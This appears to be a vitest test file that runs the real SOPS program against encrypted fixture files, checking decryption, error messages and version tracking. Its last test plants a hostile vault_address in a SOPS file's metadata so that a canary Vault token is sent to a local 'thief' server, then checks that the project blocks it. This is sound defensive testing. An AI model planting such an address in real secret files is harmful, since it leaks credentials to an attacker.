// @module-tag sops
/** Tests SOPS files with the real program. */
import { execFile, execFileSync } from "node:child_process";
import { cp, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { expect, onTestFinished, test } from "vitest";
import { tools } from "../../scripts/tools.js";
import { type AllowedHosts, parseAllowedHosts } from "../../src/base/http/index.js";
import { read, readVersion } from "../secrets/asking.js";
import { canary, startThief } from "../security/thief.js";

const fixtures = path.join(import.meta.dirname, "../secrets/sops");
const recipient = "age1t6luws9em2y39nu2y8savy4487ppcc7hsstvaesflmu7thvs7d8s4200u9";

async function startSops() {
  const root = await mkdtemp(path.join(tmpdir(), "avatarops-real-sops-"));
  onTestFinished(() => rm(root, { recursive: true, force: true }));
  await cp(fixtures, root, { recursive: true });
  const environment = {
    PATH: `${path.dirname(tools.sops.path)}:${process.env.PATH}`,
    SOPS_AGE_KEY_FILE: path.join(root, "age-key.txt"),
  };
  const source = (file: string, field?: string) => ({ from: "sops", path: file, ...(field && { field }) });
  return {
    root,
    read: (file: string, field?: string, more = {}, hosts?: AllowedHosts) =>
      read(source(file, field), { ...environment, ...more }, { root, hosts }),
    version: (file: string, field?: string) => readVersion(source(file, field), {}, { root }),
    sops: (...argv: string[]) =>
      execFileSync(tools.sops.path, argv, {
        cwd: root,
        env: environment,
        stdio: ["ignore", "pipe", "ignore"],
      }),
  };
}

test.each([
  ["production.yaml", "llm.api_key", 'kanarie-47/Zx+9 "quoted" \\ %Qw~ümlaut-one-vogel'],
  ["production.yaml", "keys.0", "kanarie-51-list-vogel"],
  ["production.yaml", "a.dotted.key", "kanarie-52-dotted-vogel"],
  ["production.json", "llm.api_key", 'kanarie-47/Zx+9 "quoted" \\ %Qw~ümlaut-one-vogel'],
  ["production.env", "LLM_API_KEY", 'kanarie-47/Zx+9 "quoted" \\ %Qw~ümlaut-one-vogel'],
  ["llm.key", undefined, 'kanarie-47/Zx+9 "quoted" \\ %Qw~ümlaut-one-vogel'],
])("decrypts a field with real SOPS: %s, %s", async (file, field, value) => {
  const sops = await startSops();
  expect(await sops.read(file, field)).toEqual({ value, version: await sops.version(file, field) });
});

test("explains real SOPS errors for a missing key and a file edited without SOPS", async () => {
  const { root, read } = await startSops();
  await expect(read("production.yaml", "llm.api_key", { SOPS_AGE_KEY_FILE: "/none" })).rejects.toThrow(
    "this machine has no key for it",
  );
  const text = await readFile(path.join(root, "production.yaml"), "utf8");
  await writeFile(path.join(root, "changed.yaml"), text.replace("in plain sight", "changed"));
  await expect(read("changed.yaml", "llm.api_key")).rejects.toThrow("it was changed without sops");
});

test("keeps a secret's version if real SOPS changes other values", async () => {
  const { root, read, version, sops } = await startSops();
  await writeFile(path.join(root, "a.yaml"), "llm:\n  api_key: one\n  spare: two\n");
  sops("encrypt", "--age", recipient, "--in-place", "a.yaml");
  const made = await version("a.yaml", "llm.api_key");
  sops("set", "a.yaml", '["llm"]["spare"]', '"three"');
  expect(await read("a.yaml", "llm.api_key")).toEqual({ value: "one", version: made });
  sops("set", "a.yaml", '["llm"]["api_key"]', '"four"');
  const changed = await version("a.yaml", "llm.api_key");
  expect(changed).not.toBe(made);
  expect(await read("a.yaml", "llm.api_key")).toEqual({ value: "four", version: changed });
});

test("rejects a Vault address that would receive the Vault token from real SOPS", async () => {
  const { root, read } = await startSops();
  const thief = await startThief();
  const key = `hc_vault: [{ vault_address: "${thief.url}", engine_path: t, key_name: k, created_at: "2026-01-01T00:00:00Z", enc: e }]`;
  const text = await readFile(path.join(root, "production.yaml"), "utf8");
  await writeFile(path.join(root, "s.yaml"), text.replace("sops:\n", `sops:\n    ${key}\n`));
  const env = { PATH: process.env.PATH, HOME: root, VAULT_TOKEN: canary };
  await new Promise((ended) => execFile(tools.sops.path, ["decrypt", "s.yaml"], { cwd: root, env }, ended));
  const heard = thief.heard();
  expect(heard).toContain(canary);
  const hosts = parseAllowedHosts({ AVATAROPS_PIN: "1" });
  await expect(read("s.yaml", "llm.api_key", { VAULT_TOKEN: canary }, hosts)).rejects.toMatchObject({
    code: "not-allowed",
  });
  expect(thief.heard()).toBe(heard);
});
